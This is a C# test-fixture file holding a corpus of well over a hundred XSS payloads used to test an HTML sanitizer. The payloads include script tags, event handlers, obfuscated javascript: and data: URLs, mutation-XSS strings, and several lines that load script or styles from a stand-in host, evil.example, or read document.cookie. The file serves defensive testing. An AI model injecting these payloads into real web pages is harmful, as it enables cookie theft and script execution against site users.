namespace DangBo.Web.Tests.Infrastructure.Html;

/// <summary>Known ways of smuggling script into HTML, gathered from public XSS cheat sheets and sanitizer bypass reports.</summary>
public static class XssCorpus
{
    public static readonly string[] Payloads =
    [
        // Script elements in every casing and shape.
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=https://evil.example/x.js></script>",
        "<script type=\"text/javascript\">alert(document.cookie)</script>",
        "<script/xss src=https://evil.example/x.js></script>",
        "<script\tsrc=https://evil.example/x.js></script>",
        "<script>alert(1)",
        "<p>trước</p><script>fetch('/quan-tri')</script><p>sau</p>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>script>alert(1)<</script>/script>",
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "<p>Đảng bộ<script>alert('Việt Nam')</script></p>",

        // Event handlers.
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" ONERROR=\"alert(1)\">",
        "<img src=x onerror=\"&#97;lert(1)\">",
        "<img/src=x/onerror=alert(1)>",
        "<img src=x\nonerror=alert(1)>",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<img src=\"https://example.org/x.png\" onload=\"alert(1)\">",
        "<body onload=alert(1)>",
        "<p onclick=\"alert(1)\">bấm vào đây</p>",
        "<a href=\"/\" onmouseover=\"alert(1)\">x</a>",
        "<div onpointerenter=alert(1)>x</div>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select onfocus=alert(1) autofocus></select>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<keygen autofocus onfocus=alert(1)>",
        "<table background=\"javascript:alert(1)\"><tr><td onmouseover=alert(1) background=javascript:alert(1)>x</td></tr></table>",
        "<h2 onmouseenter=alert(1)>Tiêu đề</h2>",

        // javascript:, vbscript: and data: addresses, plain and obfuscated.
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=javascript:alert(1)//>x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#9;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"jav\tascript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"java\rscript:alert(1)\">x</a>",
        "<a href=\"java\0script:alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"\u2028javascript:alert(1)\">x</a>",
        "<a href=\"java&NewLine;script:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
        "<a href=\"javas\u00ADcript:alert(1)\">x</a>",
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        "<img src=\"jav&#x09;ascript:alert(1)\">",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"VBScript:msgbox(1)\">x</a>",
        "<a href=\"livescript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"&#100;ata:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\" data:image/png;base64,AAAA\">",
        "<img srcset=\"javascript:alert(1) 1x\" src=\"/anh.jpg\">",
        "<a href=\"/\\evil.example/\">x</a>",
        "<a href=\"\\\\evil.example\\x\">x</a>",
        "<a href=\"//evil.example/\">x</a>",
        "<blockquote cite=\"javascript:alert(1)\">trích dẫn</blockquote>",

        // Elements that carry their own script, document or network access.
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x\"/></svg>",
        "<math href=\"javascript:alert(1)\">CLICK</math>",
        "<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<iframe src=https://evil.example></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<object><param name=\"src\" value=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\">",
        "<applet code=\"x.class\"></applet>",
        "<form action=\"javascript:alert(1)\"><input type=submit></form>",
        "<form><button formaction=javascript:alert(1)>Gửi</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<isindex action=javascript:alert(1) type=image>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
        "<img src=\"/anh.jpg\" usemap=\"#m\"><map name=m><area href=\"javascript:alert(1)\" shape=default></map>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",

        // CSS in style attributes.
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<div style=\"width: expression(alert(1));\">x</div>",
        "<span style=\"behavior: url(xss.htc);\">x</span>",
        "<p style=\"-moz-binding:url(https://evil.example/x.xml#xss)\">x</p>",
        "<img src=x style=\"x:expr/**/ession(alert(1))\">",
        "<li style=\"list-style-image:url(javascript:alert(1))\">x</li>",
        "<a href=\"/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</a>",

        // Unclosed and malformed markup.
        "<img src=\"x",
        "<a href=\"javascript:alert(1)\"",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img src= onerror=alert(1)//",
        "<p>x</p></div></p><script>alert(1)</script>",
        "<img src=\"x\" onerror=\"alert(1)\"//",
        "<a href=\"/\"><a href=\"javascript:alert(1)\">lồng nhau</a></a>",
        "</p><img src=x onerror=alert(1)><p>",

        // Comments and conditional comments.
        "<!--<script>alert(1)</script>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<!--[if IE]><img src=x onerror=alert(1)><![endif]-->",
        "<![if !IE]><img src=x onerror=alert(1)><![endif]>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!--><img src=x onerror=alert(1)>-->",

        // Mutation XSS through elements whose content parses differently in another context.
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<template><img src=x onerror=alert(1)></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<noembed><img src=x onerror=alert(1)></noembed>",
        "<noframes><img src=x onerror=alert(1)></noframes>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></h1>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",

        // Attribute-breaking quotes.
        "<img src=\"x\" alt=\"\\\"onerror=\\\"alert(1)\">",
        "<a href='/' title='x'onmouseover='alert(1)'>x</a>",
        "<img alt=\"x` onerror=alert(1)\" src=\"/anh.jpg\">",
        "<a title=\"&quot; onmouseover=alert(1) x=&quot;\" href=\"/\">x</a>",
        "<img src=/ alt=''onerror='alert(1)'>",
        "<a href=\"/\" title=\"\"\" onclick=\"alert(1)\">x</a>",

        // Clobbering and other attributes outside the allow-list.
        "<img src=\"/anh.jpg\" id=\"__proto__\" name=\"cookie\" class=\"x\">",
        "<a href=\"https://example.org\" target=\"_self\" rel=\"opener\" ping=\"https://evil.example\">x</a>",
        "<p data-bind=\"html: x\" is=\"evil-element\" contenteditable>x</p>",
    ];

    /// <summary>Indexes rather than the strings themselves: some payloads hold control characters that test runners print badly.</summary>
    public static TheoryData<int> Indexes
    {
        get
        {
            var data = new TheoryData<int>();
            for (var i = 0; i < Payloads.Length; i++)
            {
                data.Add(i);
            }
            return data;
        }
    }
}
